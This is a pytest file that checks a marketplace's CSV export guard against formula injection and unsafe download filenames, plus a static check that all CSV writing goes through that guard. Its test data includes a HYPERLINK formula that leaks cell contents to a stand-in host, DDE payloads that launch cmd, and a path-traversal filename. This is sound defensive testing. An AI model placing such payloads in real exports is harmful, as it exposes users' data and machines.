"""CSV formula injection: every CSV Niche writes goes through marketplace.csv_export, which
neutralises formula cells; a static walk fails when product code writes CSV another way.

Today Niche exports no CSV (statements, usage and admin are JSON or HTML; export bundles are
zips of safetensors, JSON and Markdown), so the guard is what keeps a future export safe.
"""

import ast
import csv
import io
from pathlib import Path

import pytest

from marketplace.csv_export import csv_response, csv_safe_cell, csv_text
from tests.hostile_inputs.test_no_unpickling_in_product_code import ROOT, product_files

CSV_MODULE = Path("marketplace/csv_export.py")

INJECTIONS = {
    "equals": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "lf": "\n=1+1",
    "leading-spaces": "   =1+1",
    "fullwidth-equals": "\uff1d1+1",
    "dde": "=cmd|' /C notepad'!'A1'",
}
BENIGN = {"plain": "Radiology triage", "email": "bob@example.com", "inner-equals": "a=b"}


@pytest.mark.parametrize("cell", INJECTIONS.values(), ids=INJECTIONS.keys())
def test_formula_cell_is_neutralised(cell):
    response = csv_response(filename="statement.csv", header=["listing"], rows=[[cell]])
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[1] == ["'" + cell]
    assert response["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize("cell", BENIGN.values(), ids=BENIGN.keys())
def test_benign_cell_is_unchanged(cell):
    assert list(csv.reader(io.StringIO(csv_text(["c"], [[cell]]))))[1] == [cell]


def test_numbers_stay_numbers_and_header_cells_are_neutralised_too():
    assert csv_safe_cell(-5) == -5 and csv_safe_cell(1.5) == 1.5 and csv_safe_cell(None) is None
    assert next(csv.reader(io.StringIO(csv_text(["=evil"], [])))) == ["'=evil"]


def test_download_filename_is_reduced_to_safe_ascii():
    response = csv_response(filename='../../x"\r\n\u202eslx.csv', header=["a"], rows=[])
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="')
    assert "/" not in disposition and "\u202e" not in disposition and disposition.count('"') == 2


def csv_writing_sites(source: str, filename: str) -> list[str]:
    """Calls of csv.writer / csv.DictWriter (any alias) and ``text/csv`` literals."""
    aliases: dict[str, str] = {}
    found = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            for alias in node.names:
                aliases[alias.asname or alias.name] = alias.name
        elif isinstance(node, ast.ImportFrom) and node.module == "csv":
            for alias in node.names:
                aliases[alias.asname or alias.name] = f"csv.{alias.name}"
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Call):
            func = node.func
            if isinstance(func, ast.Attribute) and isinstance(func.value, ast.Name):
                name = f"{aliases.get(func.value.id, func.value.id)}.{func.attr}"
            elif isinstance(func, ast.Name):
                name = aliases.get(func.id, func.id)
            else:
                continue
            if name in ("csv.writer", "csv.DictWriter"):
                found.append(f"{filename}:{node.lineno}: {name}")
        elif isinstance(node, ast.Constant) and "text/csv" in str(node.value):
            found.append(f"{filename}:{node.lineno}: text/csv")
    return found


PLANTED = {
    "writer": "import csv\ncsv.writer(f).writerow(row)",
    "dictwriter-alias": "import csv as c\nc.DictWriter(f, fieldnames=k)",
    "from-import": "from csv import writer\nwriter(f)",
    "content-type": "HttpResponse(body, content_type='text/csv')",
}


@pytest.mark.parametrize("source", PLANTED.values(), ids=PLANTED.keys())
def test_guard_catches_planted_csv_writer(source):
    assert csv_writing_sites(source, "planted.py")


def test_guard_passes_csv_reading():
    assert csv_writing_sites("import csv\ncsv.reader(f)\ncsv.DictReader(f)", "x.py") == []


def test_product_code_writes_csv_only_through_csv_export():
    offences = [
        site
        for path in product_files()
        if path.relative_to(ROOT) != CSV_MODULE
        for site in csv_writing_sites(path.read_text(), str(path.relative_to(ROOT)))
    ]
    assert offences == []
